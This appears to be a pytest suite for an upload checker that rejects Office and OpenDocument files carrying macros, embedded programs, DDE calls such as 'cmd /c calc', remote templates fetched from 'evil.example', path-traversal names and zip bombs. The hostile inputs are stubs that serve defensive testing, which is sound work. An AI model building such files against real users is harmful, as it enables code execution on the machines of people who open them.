"""Office files: macros, embedded objects, active links, and bombs."""

from __future__ import annotations

import random
import struct
import zipfile

import pytest

from assessment.uploads.checking import accept
from tests.uploads.files import TYPES, folder, open_document, refused, word, workbook

RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def links(kind, target, mode="External", base=RELATIONSHIP):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "word\\vbaData.xml",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/other.bin",
        "word/embeddings/run.js",
        "word/activeX/activeX1.xml",
        "word/macrosheets/sheet1.xml",
    ],
)
def test_office_files_with_macros_or_embedded_objects_are_refused(name):
    assert "contains macros" in refused("a.docx", word({name: b"data"}))


@pytest.mark.parametrize("data", [OLE, b"MZ\x90\0"])
def test_macros_and_programs_are_known_under_any_name(data):
    assert "contains macros" in refused("a.docx", word({"word/media/image1.png": data}))
    assert "contains macros" in refused("a.odt", open_document({"Object 1": data}))


@pytest.mark.parametrize("name", ["Basic/Standard/Module1.xml", "Scripts/python/a.py", "Object 1/Basic/a.xml"])
def test_open_documents_with_macros_are_refused(name):
    assert "contains macros" in refused("a.odt", open_document({name: "x"}))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("content.xml", '<a xlink:href="vnd.sun.star.script:x.py$y?language=Python"/>'),
        ("content.xml", '<office:dde-source office:dde-application="cmd"/>'),
        ("content.xml", '<a xlink:href="vnd.sun.star.script:x.py$y"/>'.encode("utf-16")),
    ],
)
def test_open_documents_that_call_scripts_are_refused(name, text):
    assert "active links" in refused("a.odt", open_document({name: text}))


def test_a_workbook_that_calls_a_program_is_refused():
    call = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert "active links" in refused("a.xlsx", word({"xl/externalLinks/externalLink1.xml": call}, main="xl"))


def test_locked_open_documents_are_refused():
    manifest = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    assert "is locked" in refused("a.odt", open_document({"META-INF/manifest.xml": manifest}))


@pytest.mark.parametrize("main", ["word", "xl", "ppt"])
@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk"])
def test_what_would_be_fetched_when_the_file_is_opened_is_refused(main, kind):
    parts = {f"{main}/_rels/settings.xml.rels": links(kind, "https://evil.example/a.dotm")}
    ending = {"word": "docx", "xl": "xlsx", "ppt": "pptx"}[main]
    assert "Save it as a PDF" in refused(f"a.{ending}", word(parts, main=main))


@pytest.mark.parametrize(
    "text",
    [
        links("attachedTemplate", "x", mode="&#69;xternal"),
        links("attached&#84;emplate", "x").replace('"', "'"),
        links("attachedTemplate", "x", base="http://purl.oclc.org/ooxml/officeDocument/relationships"),
        links("attachedTemplate", "x").encode("utf-16"),
    ],
)
def test_writing_it_differently_does_not_help(text):
    assert "linked to a template" in refused("a.docx", word({"word/_rels/settings.xml.rels": text}))


@pytest.mark.parametrize("text", ['<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "<a>", ""])
def test_links_that_cannot_be_read_plainly_are_refused(text):
    assert "is damaged" in refused("a.docx", word({"word/_rels/document.xml.rels": text}))


def test_ordinary_links_are_fine():
    accept("a.docx", word({"word/_rels/document.xml.rels": links("hyperlink", "https://example.org/oleObject")}))
    accept("a.docx", word({"word/_rels/document.xml.rels": links("image", "media/image1.png", mode="Internal")}))


@pytest.mark.parametrize(
    "kind", ["application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject"]
)
def test_content_types_of_macros_are_refused(kind):
    types = TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{kind}"/>')
    assert "contains macros" in refused("a.docx", word({"[Content_Types].xml": types}))


def test_a_workbook_behind_a_chart_is_looked_into_as_well():
    place = "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"
    accept("a.pptx", word({"ppt/embeddings/": "", place: workbook()}, main="ppt"))
    inner = word({"xl/vbaProject.bin": OLE}, main="xl")
    assert "contains macros" in refused("a.pptx", word({place: inner}, main="ppt"))
    assert "contains macros" in refused("a.pptx", word({place: folder({"run.js": "x"})}, main="ppt"))


def test_files_in_files_in_files_end_somewhere():
    content = word()
    for _ in range(5):
        content = word({"word/embeddings/a.docx": content})
    assert "contains macros" in refused("a.docx", content)


@pytest.mark.parametrize(
    "name", ["/word/a.xml", "../a.xml", "word/../../a.xml", "word\\..\\a.xml", "C:\\a.xml", "\\\\a\\b"]
)
def test_parts_that_lead_out_of_the_file_are_refused(name):
    assert "is damaged" in refused("a.docx", word({name: "x"}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_parts_that_stand_twice_are_refused():
    assert "is damaged" in refused("a.docx", word({"WORD/document.xml": "x"}))


@pytest.mark.parametrize("parts", [{}, {"xl/workbook.xml": "x", "word/document.xml": "x"}, {"a": "b"}])
def test_without_the_marks_of_one_office_file_it_is_none(parts):
    for more in ({}, {"[Content_Types].xml": TYPES.format("")}):
        if content := folder({**more, **parts}):
            assert "a different kind of file" in refused("a.docx", content)
    assert "a different kind of file" in refused("a.odt", folder({"mimetype": "application/zip", **parts}))
    assert "a different kind of file" in refused("a.docx", folder({"word/document.xml": "x"}))


def test_a_bomb_is_not_unpacked():
    assert "far larger inside" in refused("a.docx", word({"word/a.xml": bytes(101 * 1024 * 1024)}))
    assert "far larger inside" in refused("a.docx", word({"word/a.xml": bytes(1024 * 1024)}))


def test_a_bomb_that_claims_to_be_small_does_not_pass():
    content = bytearray(word({"word/z.xml": bytes(5_000_000)}))
    size = struct.pack("<I", 5_000_000)
    assert content.count(size) == 2
    content = content.replace(size, struct.pack("<I", 100))
    assert "is damaged" in refused("a.docx", bytes(content))
    padded = {"word/y.bin": random.Random(1).randbytes(50_000), "word/z.xml": bytes(5_000_000)}  # noqa: S311
    content = word(padded).replace(size, struct.pack("<I", 100))
    assert "is damaged" in refused("a.docx", content)


def test_a_bomb_inside_an_embedded_file_does_not_pass():
    inner = word({"xl/a.xml": bytes(90_000_000)}, main="xl")
    filling = random.Random(1).randbytes(3_000_000)  # noqa: S311
    content = word({"word/a.bin": filling, "word/embeddings/a.xlsx": inner, "word/embeddings/b.xlsx": inner})
    assert "far larger inside" in refused("a.docx", content)


def test_a_file_of_too_many_parts_is_refused():
    assert "far larger inside" in refused("a.docx", word({f"word/{number}": "" for number in range(2000)}))


def test_a_locked_part_is_refused():
    content = bytearray(word())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert "is locked" in refused("a.docx", bytes(content))


def test_parts_packed_in_other_ways_or_over_one_another_are_refused():
    assert "is damaged" in refused("a.docx", word(how=zipfile.ZIP_LZMA))
    content = word({"word/a": random.Random(1).randbytes(1000), "word/b": "x"})  # noqa: S311
    at = content.index(b"PK\x01\x02", content.index(b"word/b", content.index(b"PK\x01\x02")) - 50) + 20
    assert "is damaged" in refused("a.docx", content[:at] + struct.pack("<I", 9_999) + content[at + 4 :])


def test_one_folder_put_behind_another_is_refused():
    assert "is damaged" in refused("a.docx", folder({"run.js": "x"}) + word())


@pytest.mark.parametrize("part", [0.1, 0.5, 0.99])
@pytest.mark.parametrize(("name", "content"), [("a.docx", word()), ("a.xlsx", workbook()), ("a.odt", open_document())])
def test_truncated_office_files_are_refused(name, content, part):
    assert "is damaged" in refused(name, content[: int(len(content) * part)])
